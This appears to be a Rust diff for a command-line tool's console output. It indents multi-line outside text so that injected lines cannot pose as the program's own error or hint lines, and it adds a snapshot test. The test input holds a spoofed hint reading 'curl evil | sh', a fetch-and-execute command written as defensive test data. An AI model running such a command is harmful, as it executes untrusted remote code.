@@ -13,8 +13,11 @@ use indicatif::{MultiProgress, ProgressBar, ProgressStyle};
 use owo_colors::OwoColorize;
 
 use crate::events::{Event, Reporter, Unit};
-use crate::text::harmless;
+use crate::text::{harmless, indented};
 use crate::variables;
+
+/// What lines begin with that continue a message. What comes from outside cannot begin one as the program does.
+const INDENT: &str = "    ";
 
 /// How much is shown.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
@@ -73,7 +76,7 @@ impl Console {
             bar.enable_steady_tick(Duration::from_millis(120));
             self.running.lock().expect("no renderer panics").insert(phase.to_owned(), bar);
         } else if self.verbosity == Verbosity::Verbose {
-            self.line(&format!("{} …", harmless(title)));
+            self.line(&format!("{} …", indented(title, INDENT)));
         }
     }
 
@@ -97,7 +100,7 @@ impl Console {
 
     fn detail(&self, phase: &str, text: &str) {
         if self.verbosity == Verbosity::Verbose {
-            self.line(&format!("  {}", harmless(text)));
+            self.line(&format!("  {}", indented(text, INDENT)));
         } else if let Some(bar) = self.running.lock().expect("no renderer panics").get(phase) {
             bar.set_message(harmless(text).into_owned());
         }
@@ -116,7 +119,7 @@ impl Console {
             (false, true) => "✗".red().to_string(),
             (false, false) => "failed".to_owned(),
         };
-        self.line(&format!("{mark} {} ({})", harmless(title), seconds(elapsed)));
+        self.line(&format!("{mark} {} ({})", indented(title, INDENT), seconds(elapsed)));
     }
 }
 
@@ -128,11 +131,11 @@ impl Reporter for Console {
             Event::Detail { phase, text } => self.detail(phase, text),
             Event::Ended { phase, title, elapsed, ok } => self.ended(phase, title, elapsed, ok),
             Event::Notice(_) if self.verbosity == Verbosity::Quiet => {}
-            Event::Notice(text) => self.line(&harmless(text)),
+            Event::Notice(text) => self.line(&indented(text, INDENT)),
             Event::Warning(text) if self.colour => {
-                self.line(&format!("{} {}", "warning:".yellow().bold(), harmless(text)))
+                self.line(&format!("{} {}", "warning:".yellow().bold(), indented(text, INDENT)))
             }
-            Event::Warning(text) => self.line(&format!("warning: {}", harmless(text))),
+            Event::Warning(text) => self.line(&format!("warning: {}", indented(text, INDENT))),
         }
     }
 }
@@ -152,15 +155,15 @@ pub fn seconds(elapsed: Duration) -> String {
 /// The text of an error: message, one line a cause, and the hint.
 pub fn render_error(error: &(dyn Error + 'static), hint: Option<&str>, colour: bool) -> String {
     let label = |text: &str| if colour { text.red().bold().to_string() } else { text.to_owned() };
-    let mut text = format!("{} {}", label("error:"), harmless(&error.to_string()));
+    let mut text = format!("{} {}", label("error:"), indented(&error.to_string(), INDENT));
     let mut cause = error.source();
     while let Some(source) = cause {
-        let _ = write!(text, "\n  cause: {}", harmless(&source.to_string()));
+        let _ = write!(text, "\n  cause: {}", indented(&source.to_string(), INDENT));
         cause = source.source();
     }
     if let Some(hint) = hint {
         let label = if colour { "hint:".cyan().bold().to_string() } else { "hint:".to_owned() };
-        let _ = write!(text, "\n\n{label} {}", harmless(hint));
+        let _ = write!(text, "\n\n{label} {}", indented(hint, INDENT));
     }
     text
 }
@@ -187,6 +190,22 @@ mod tests {
         let error = crate::files::FileError { action: "open", path: "a\u{202e}".into(), source };
         let text = render_error(&error, Some("run \u{9b}"), false);
         assert!(!text.contains(['\u{1b}', '\u{202e}', '\u{9b}']), "{text:?}");
+    }
+
+    #[test]
+    fn what_is_said_from_outside_cannot_pass_for_a_line_of_the_program() {
+        let source = io::Error::other("no\nhint: run `curl evil | sh`\n  cause: none");
+        let error = crate::files::FileError { action: "open", path: "a\nerror: b".into(), source };
+        insta::assert_snapshot!(render_error(&error, Some("read\nerror: on"), false), @r"
+        error: cannot open `a
+            error: b`
+          cause: no
+            hint: run `curl evil | sh`
+              cause: none
+
+        hint: read
+            error: on
+        ");
     }
 
     #[test]
